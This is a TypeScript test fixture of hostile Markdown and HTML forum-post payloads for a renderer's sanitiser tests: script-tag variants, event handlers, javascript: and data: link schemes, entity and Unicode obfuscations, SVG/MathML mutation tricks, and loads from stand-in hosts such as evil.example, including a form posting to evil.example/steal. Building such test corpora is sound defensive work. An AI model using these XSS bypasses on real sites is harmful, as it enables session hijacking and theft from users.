/**
 * Hostile Markdown and HTML for forum posts, shared by the browser suite (hostile-markdown.spec.ts)
 * and the renderer's unit test (app/utils/markdown.server.test.ts).
 *
 * Conventions, so the detectors have something definite to catch:
 * - a payload that tries to run script calls alert/confirm/prompt or sets window.__pwned = 1;
 * - a payload that tries to load something points at a foreign host (evil.example, attacker.invalid),
 *   so any request leaving the test server is easy to spot, and could never reach a real one.
 *
 * A few payloads carry characters the post form refuses (NUL, other C0 controls); they reach the
 * database directly only, standing for data written before that validation or by another path.
 */
export interface HostilePayload {
	name: string
	body: string
}

const b64 = (s: string) => Buffer.from(s).toString('base64')
const scriptB64 = b64('<script>alert(document.domain)</script>')
const svgB64 = b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>')

export const hostilePayloads: HostilePayload[] = [
	// ---------- <script>, in many spellings ----------
	{ name: 'script-plain', body: "<script>alert('script-plain')</script>" },
	{ name: 'script-uppercase', body: '<SCRIPT>alert(1)</SCRIPT>' },
	{ name: 'script-mixed-case-typed', body: '<ScRiPt type="text/javascript">window.__pwned = 1</sCrIpT>' },
	{ name: 'script-src-foreign', body: '<script src="http://evil.example/x.js"></script>' },
	{ name: 'script-split-nested', body: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
	{ name: 'script-inline-in-paragraph', body: 'Hello <script>confirm(1)</script> world' },
	{ name: 'script-in-html-block', body: '<div>\n\n<script>alert(1)</script>\n\n</div>' },
	{ name: 'script-closing-tag-breakout', body: '</script><script>window.__pwned = 1</script><!--' },
	{ name: 'script-in-code-span-breakout', body: '`</code><script>alert(1)</script>`' },
	{ name: 'script-in-fence-breakout', body: '```\n</code></pre><script>alert(1)</script>\n```' },
	{ name: 'script-in-fence-info-string', body: '```js"><script>alert(1)</script>\nconst x = 1\n```' },
	{ name: 'script-in-link-text', body: '[<script>alert(1)</script>](http://ok.example/)' },
	{ name: 'script-in-table-cell', body: '| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |' },
	{ name: 'script-in-heading', body: '# <script>prompt(1)</script>\n\nSetext <script>alert(1)</script>\n===' },
	{ name: 'script-in-nested-quote-list', body: '> - > 1. <script>alert(1)</script>' },
	{ name: 'script-entity-encoded', body: '&lt;script&gt;alert(1)&lt;/script&gt; and &#60;script&#62;alert(1)&#60;/script&#62;' },
	{ name: 'script-zero-width-in-name', body: '<scr\u200bipt>alert(1)</scr\u200bipt>' },
	{ name: 'script-fullwidth-brackets', body: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e' },
	{ name: 'script-null-in-name (db only)', body: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },

	// ---------- event handlers ----------
	{ name: 'img-onerror', body: '<img src=x onerror=alert(1)>' },
	{ name: 'img-onerror-foreign', body: '<img src="http://evil.example/pixel.gif" onerror="alert(1)">' },
	{ name: 'img-onerror-backticks', body: '<img src=x onerror=alert`1`>' },
	{ name: 'img-handler-on-new-lines', body: '<img src=x\nonerror\n=\nalert(1)>' },
	{ name: 'img-slash-separated', body: '<img/src=x/onerror=alert(1)>' },
	{ name: 'img-entity-in-handler-name', body: '<img src=x &#111;nerror=alert(1)>' },
	{ name: 'svg-onload', body: '<svg onload=alert(1)>' },
	{ name: 'svg-slash-onload', body: '<svg/onload=window.__pwned=1>' },
	{ name: 'body-onload', body: '<body onload=alert(1)>' },
	{ name: 'details-ontoggle', body: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
	{ name: 'video-onerror', body: '<video src=x onerror=alert(1)></video>' },
	{ name: 'audio-onerror', body: '<audio src=x onerror=alert(1)>' },
	{ name: 'input-autofocus-onfocus', body: '<input autofocus onfocus=alert(1)>' },
	{ name: 'textarea-autofocus-onfocus', body: '<textarea autofocus onfocus=alert(1)></textarea>' },
	{ name: 'div-onmouseover-fullscreen', body: '<div onmouseover="alert(1)" style="position:fixed;inset:0">hover anywhere</div>' },
	{ name: 'a-onclick', body: '<a href="http://ok.example/" onclick="alert(1)">click</a>' },
	{ name: 'marquee-onstart', body: '<marquee onstart=alert(1)>x</marquee>' },
	{ name: 'p-onanimationstart', body: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>' },
	{ name: 'handler-inside-markdown-emphasis', body: '**<b onmouseover=alert(1)>bold</b>** _<i onclick=alert(1)>it</i>_' },

	// ---------- dangerous schemes in Markdown links, autolinks, reference links and images ----------
	{ name: 'md-link-javascript', body: '[click](javascript:alert(1))' },
	{ name: 'md-link-javascript-mixed-case', body: '[click](JaVaScRiPt:alert(1))' },
	{ name: 'md-link-javascript-comment-newline', body: '[click](javascript://%0Aalert(1))' },
	{ name: 'md-link-javascript-leading-space', body: '[click](   javascript:alert(1))' },
	{ name: 'md-link-vbscript', body: '[click](vbscript:msgbox(1))' },
	{ name: 'md-link-data-html', body: `[click](data:text/html;base64,${scriptB64})` },
	{ name: 'md-link-data-svg', body: `[click](data:image/svg+xml;base64,${svgB64})` },
	{ name: 'md-link-entity-decimal-scheme', body: '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))' },
	{ name: 'md-link-entity-hex-scheme', body: '[click](&#x6A;avascript&#x3A;alert(1))' },
	{ name: 'md-link-entity-named-colon', body: '[click](javascript&colon;alert(1))' },
	{ name: 'md-link-entity-tab-in-scheme', body: '[click](java&#9;script:alert(1))' },
	{ name: 'md-link-entity-newline-in-scheme', body: '[click](java&#10;script:alert(1))' },
	{ name: 'md-link-entity-uppercase-data', body: '[click](&#x44;ATA:text/html,<script>alert(1)</script>)' },
	{ name: 'md-link-angle-destination', body: '[click](<javascript:alert(1)>)' },
	{ name: 'md-link-percent-encoded-colon', body: '[click](javascript%3Aalert(1))' },
	{ name: 'md-link-zero-width-in-scheme', body: '[click](java\u200bscript:alert(1))' },
	{ name: 'md-link-fullwidth-scheme', body: '[click](\uff4aavascript:alert(1))' },
	{ name: 'md-link-literal-tab-in-scheme', body: '[click](java\tscript:alert(1))' },
	{ name: 'md-link-control-char-in-scheme (db only)', body: '[click](\u0001javascript:alert(1))' },
	{ name: 'md-link-null-in-scheme (db only)', body: '[click](java\u0000script:alert(1))' },
	{ name: 'autolink-javascript', body: '<javascript:alert(1)>' },
	{ name: 'autolink-vbscript', body: '<vbscript:msgbox(1)>' },
	{ name: 'autolink-data-html', body: `<data:text/html;base64,${scriptB64}>` },
	{ name: 'autolink-mailto-script', body: '<mailto:x@evil.example?subject=%3Cscript%3Ealert(1)%3C/script%3E>' },
	{ name: 'reference-link-javascript', body: '[click][evil]\n\n[evil]: javascript:alert(1)' },
	{ name: 'reference-link-data', body: `[click][d]\n\n[d]: data:text/html;base64,${scriptB64} "title"` },
	{ name: 'reference-link-entity-scheme', body: '[click]\n\n[click]: &#x6A;avascript:alert(1)' },
	{ name: 'reference-image-foreign', body: '![pixel][p]\n\n[p]: http://evil.example/ref-pixel.gif' },
	{ name: 'md-image-javascript', body: '![x](javascript:alert(1))' },
	{ name: 'md-image-data-svg', body: `![x](data:image/svg+xml;base64,${svgB64})` },
	{ name: 'md-image-tracking-pixel', body: '![tracking pixel](http://evil.example/pixel.gif?reader=me)' },
	{ name: 'md-image-https-with-title', body: '![badge](https://attacker.invalid/beacon.png "badge")' },
	{ name: 'md-image-inside-link', body: '[![badge](http://evil.example/badge.png)](http://ok.example/)' },
	{ name: 'md-image-protocol-relative', body: '![x](//evil.example/pr.png)' },
	{ name: 'md-link-protocol-relative', body: '[x](//evil.example/path)' },
	{ name: 'md-link-backslash-protocol-relative', body: '[x](/\\evil.example/path) [y](\\\\evil.example/path)' },
	{ name: 'linkify-bare-foreign-host', body: 'see www.evil.example/linkified and http://evil.example/plain' },
	{ name: 'md-link-title-double-quote-break', body: '[x](http://ok.example/ "a\\" onmouseover=\\"alert(1)")' },
	{ name: 'md-link-title-single-quote-break', body: "[x](http://ok.example/ 'a\\' onmouseover=alert(1) x=\\'')" },
	{ name: 'md-link-title-paren-break', body: '[x](http://ok.example/ (a" onfocus="alert(1)" autofocus="))' },
	{ name: 'md-link-href-quote-break', body: '[x](http://ok.example/"onmouseover="alert(1))' },
	{ name: 'md-link-rtl-override-text', body: '[\u202egpj.exe](http://evil.example/exe.jpg)' },
	{ name: 'md-link-very-long-url', body: `[x](http://evil.example/${'a'.repeat(6000)})` },

	// ---------- raw HTML elements that load, frame, submit, redirect or restyle ----------
	{ name: 'a-raw-javascript', body: '<a href="javascript:alert(1)">x</a>' },
	{ name: 'a-raw-foreign-blank-ping', body: '<a href="http://evil.example/" target="_blank" ping="http://evil.example/ping">x</a>' },
	{ name: 'iframe-javascript', body: '<iframe src="javascript:alert(1)"></iframe>' },
	{ name: 'iframe-srcdoc', body: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
	{ name: 'iframe-foreign', body: '<iframe src="http://evil.example/frame"></iframe>' },
	{ name: 'object-data', body: '<object data="http://evil.example/x.swf" type="application/x-shockwave-flash"></object>' },
	{ name: 'embed-javascript', body: '<embed src="javascript:alert(1)">' },
	{ name: 'form-foreign-action', body: '<form action="http://evil.example/steal"><input name=p><button formaction="javascript:alert(1)">go</button></form>' },
	{ name: 'meta-refresh', body: '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">' },
	{ name: 'base-href', body: '<base href="http://evil.example/">\n\n[relative](page)' },
	{ name: 'link-stylesheet', body: '<link rel="stylesheet" href="http://evil.example/x.css">' },
	{ name: 'link-prefetch', body: '<link rel="prefetch" href="https://attacker.invalid/prefetch"><link rel="dns-prefetch" href="//attacker.invalid">' },
	{ name: 'style-import', body: '<style>@import url("http://evil.example/import.css");</style>' },
	{ name: 'style-background-url', body: '<style>body{background:url(http://evil.example/bg.png)}</style>' },
	{ name: 'style-attribute-url', body: '<p style="background-image:url(http://evil.example/inline.png)">x</p>' },
	{ name: 'style-attribute-expression', body: '<div style="width:expression(alert(1))">x</div>' },
	{ name: 'img-srcset', body: '<img srcset="http://evil.example/srcset.png 1x">' },
	{ name: 'picture-source', body: '<picture><source srcset="http://evil.example/source.png"><img alt=""></picture>' },
	{ name: 'video-poster', body: '<video poster="http://evil.example/poster.png"></video>' },
	{ name: 'input-image', body: '<input type="image" src="http://evil.example/input.png">' },
	{ name: 'dom-clobbering-ids', body: '<a id="__remixContext" name="__remixContext">x</a><form name="getElementById"></form>' },

	// ---------- SVG and MathML ----------
	{ name: 'svg-script', body: '<svg><script>alert(1)</script></svg>' },
	{ name: 'svg-use-foreign', body: '<svg><use href="http://evil.example/sprite.svg#x"/></svg>' },
	{ name: 'svg-use-data', body: `<svg><use href="data:image/svg+xml;base64,${svgB64}#x"/></svg>` },
	{ name: 'svg-animate-href', body: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>' },
	{ name: 'svg-foreign-object', body: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>' },
	{ name: 'svg-image-foreign', body: '<svg><image href="http://evil.example/svg-image.png"/></svg>' },
	{ name: 'svg-cdata-breakout', body: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>' },
	{ name: 'mathml-href', body: '<math href="javascript:alert(1)">CLICK</math>' },
	{ name: 'mathml-mglyph-style-mutation', body: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },

	// ---------- nested, malformed and unclosed markup; comments and CDATA ----------
	{ name: 'comment-breakout', body: '<!--><img src=x onerror=alert(1)>-->' },
	{ name: 'comment-inside-attribute', body: '<!-- <img src="--><img src=x onerror=alert(1)>" -->' },
	{ name: 'cdata-html', body: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
	{ name: 'unclosed-img', body: '<img src=x onerror=alert(1)' },
	{ name: 'unclosed-attribute-quote', body: '<a href="http://ok.example/ onmouseover=alert(1)//">x' },
	{ name: 'nested-a-in-href', body: '<a href="<a href=javascript:alert(1)>x</a>">y</a>' },
	{ name: 'noscript-title-mutation', body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
	{ name: 'template-content', body: '<template><img src=x onerror=alert(1)></template>' },
	{ name: 'xmp-rawtext', body: '<xmp><img src=x onerror=alert(1)></xmp>' },
	{ name: 'title-rcdata', body: '<title><img src=x onerror=alert(1)></title>' },
	{ name: 'textarea-rcdata-breakout', body: '<textarea><img title="</textarea><img src=x onerror=alert(1)>">' },
	{ name: 'html-block-with-markdown-link', body: '<div>\n\n[x](javascript:alert(1))\n\n</div>' },
	{ name: 'deep-html-nesting', body: `${'<div>'.repeat(2000)}<img src=x onerror=alert(1)>${'</div>'.repeat(2000)}` },
	{ name: 'deep-blockquote-nesting', body: `${'>'.repeat(600)} <img src=x onerror=alert(1)> [x](javascript:alert(1))` },
	{ name: 'deep-list-nesting', body: Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n') + '\n' + '  '.repeat(120) + '- [x](javascript:alert(1))' },
	{ name: 'deep-emphasis-run', body: `${'*_'.repeat(1500)}<img src=x onerror=alert(1)>${'_*'.repeat(1500)}` },
]
